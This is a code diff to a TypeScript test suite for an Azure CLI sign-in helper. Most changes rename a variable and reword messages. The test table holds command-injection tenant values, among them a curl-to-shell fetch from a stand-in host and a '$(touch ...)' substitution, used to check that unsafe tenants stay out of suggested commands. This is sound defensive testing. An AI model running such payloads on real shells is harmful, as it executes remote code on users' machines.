@@ -21,11 +21,11 @@ function countingSession(lifetimeInMs: number) {
 
 const tenantId = '7e7a7e7a-0000-4000-8000-000000000002';
 
-/** What a user of the Azure CLI is told when the credential says this. */
+/** What a user of the Azure CLI sees when the credential says this. */
 async function refusal(message: string, request: TokenRequest = {}, cloud: Cloud = cloudNamed('public')) {
   const session = sessionOf(
     'Azure CLI',
-    told => azureCliNextStep(cloud, told),
+    reason => azureCliNextStep(cloud, reason),
     async () => ({ getToken: () => Promise.reject(new Error(message)) }),
   );
   const error: unknown = await session.getToken(scope, request).catch((caught: unknown) => caught);
@@ -76,23 +76,23 @@ describe('a session over a credential', () => {
   const claimed = `This credential doesn't support claims challenges. To authenticate with the required claims, please run the following command: az login --claims-challenge ${encoded} --scope https://management.azure.com/.default`;
   const expired =
     'ERROR: AADSTS70043: The refresh token has expired or is invalid due to sign-in frequency checks by conditional access. canary-token\nInteractive authentication is needed. Please run:\naz login --scope https://management.core.windows.net//.default';
-  const rows: readonly (readonly [message: string, request: TokenRequest, told: string, nextStep: string])[] = [
-    [login, {}, 'Nobody is signed in there.', 'Run "az login" in a terminal, then try again.'],
+  const rows: readonly (readonly [message: string, request: TokenRequest, reason: string, nextStep: string])[] = [
+    [login, {}, 'No account is signed in there.', 'Run "az login" in a terminal, then try again.'],
     [
       login,
       { tenantId },
-      `Nobody is signed in there for the tenant ${tenantId}.`,
+      `No account is signed in there for the tenant ${tenantId}.`,
       `Run "az login --tenant ${tenantId}" in a terminal, then try again.`,
     ],
     [
       login,
       { tenantId: 'contoso.onmicrosoft.com' },
-      'Nobody is signed in there for the tenant contoso.onmicrosoft.com.',
+      'No account is signed in there for the tenant contoso.onmicrosoft.com.',
       'Run "az login --tenant contoso.onmicrosoft.com" in a terminal, then try again.',
     ],
     // a challenge may say anything, and what a user copies goes into a shell
     ...["x;curl$IFS'evil.example/a'|sh", '$(touch$IFS/tmp/owned)', 'contoso.onmicrosoft.com&&calc', '--allow-no-subscriptions', 'a.example\nb', 'a..b'].map(
-      tenant => [login, { tenantId: tenant }, 'Nobody is signed in there.', 'Run "az login" in a terminal, then try again.'] as const,
+      tenant => [login, { tenantId: tenant }, 'No account is signed in there.', 'Run "az login" in a terminal, then try again.'] as const,
     ),
     [
       notInstalled,
@@ -121,12 +121,12 @@ describe('a session over a credential', () => {
     ],
     ['unexpected output: canary-token', {}, '', 'Run "az login" in a terminal, then try again.'],
   ];
-  for (const [message, request, told, nextStep] of rows) {
-    it(`says "${told}" of ${request.tenantId ?? 'no tenant'} and "${nextStep}"`, async () => {
+  for (const [message, request, reason, nextStep] of rows) {
+    it(`says "${reason}" of ${request.tenantId ?? 'no tenant'} and "${nextStep}"`, async () => {
       const error = await refusal(message, request);
       assert.deepEqual(
         [error.code, error.message, error.nextStep],
-        ['signed-out', ['Azure CLI gave no token.', told].filter(Boolean).join(' '), nextStep],
+        ['signed-out', ['Azure CLI gave no token.', reason].filter(Boolean).join(' '), nextStep],
       );
     });
   }
